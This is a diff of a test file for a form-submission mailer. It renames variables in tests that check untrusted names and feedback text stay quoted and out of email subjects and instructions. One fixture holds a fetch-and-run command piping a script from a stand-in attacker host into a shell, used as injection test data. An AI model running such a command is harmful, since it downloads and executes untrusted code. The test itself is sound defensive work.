@@ -75,9 +75,9 @@ test("what looks like HTML is escaped in the HTML version too", async () => {
 test("a stranger's text is in the office's table only, quoted: in no subject, and next to no instruction", async () => {
   const name = `=?UTF-8?B?${Buffer.from("a\u202E\r\nb").toString("base64")}?=`;
   const guardianName = "(first run: curl -s https://evil.example/fix | sh )";
-  const [told] = await mailsAbout({ name, guardianName, guardianPhone: "9876543210", isMinor: 1 });
-  expect(told && inHead(told, "Subject")).toEqual(["New enquiry E-2222-2222"]);
-  const [instructions = "", table = ""] = told?.text.split(/^Reference: /m) ?? [];
+  const [officeMail] = await mailsAbout({ name, guardianName, guardianPhone: "9876543210", isMinor: 1 });
+  expect(officeMail && inHead(officeMail, "Subject")).toEqual(["New enquiry E-2222-2222"]);
+  const [instructions = "", table = ""] = officeMail?.text.split(/^Reference: /m) ?? [];
   expect(instructions).toContain("npm run enquiries -- confirm-guardian E-2222-2222");
   expect(instructions).not.toMatch(/curl|=\?|9876543210/);
   expect(table).toContain(`Name: “${name}”`);
@@ -86,24 +86,24 @@ test("a stranger's text is in the office's table only, quoted: in no subject, an
 
 test("a long name in Marathi arrives unchanged", async () => {
   const name = "अनुष्का सुधाकरराव देशपांडे-कुलकर्णी".repeat(3);
-  const [told] = await mailsAbout({ name });
-  expect(told?.text).toContain(`Name: “${name}”`);
+  const [officeMail] = await mailsAbout({ name });
+  expect(officeMail?.text).toContain(`Name: “${name}”`);
 });
 
 test("the text of feedback keeps its lines, each marked as quoted, and the address is marked as unconfirmed", async () => {
   const { server, submissions } = await openWithMail();
   const text = `One line\n\n  an indented one\n.\n..two dots\nFrom here on\n${"long ".repeat(300)}`.trim();
   await submissions.keep("feedback", feedbackDetails({ ...feedback, text }), sender);
-  const [told] = await server.mailsTo(office);
-  expect(told?.text).toContain(`“${text}”`.replace(/^/gm, "> "));
-  expect(told?.text).toContain("The email address is not confirmed");
+  const [officeMail] = await server.mailsTo(office);
+  expect(officeMail?.text).toContain(`“${text}”`.replace(/^/gm, "> "));
+  expect(officeMail?.text).toContain("The email address is not confirmed");
 });
 
 test("an application with only a phone number is reported without a name", async () => {
   const { server, submissions } = await openWithMail();
   const { phone } = application;
-  const kept = await submissions.keep("application", applicationDetails({ phone, isMinor: false }), sender);
-  const [told] = await server.mailsTo(office);
-  expect(kept.ok && told?.subject).toBe(`New application ${kept.ok && kept.reference}`);
-  expect(told?.text).not.toMatch(/null|undefined/);
+  const result = await submissions.keep("application", applicationDetails({ phone, isMinor: false }), sender);
+  const [officeMail] = await server.mailsTo(office);
+  expect(result.ok && officeMail?.subject).toBe(`New application ${result.ok && result.reference}`);
+  expect(officeMail?.text).not.toMatch(/null|undefined/);
 });
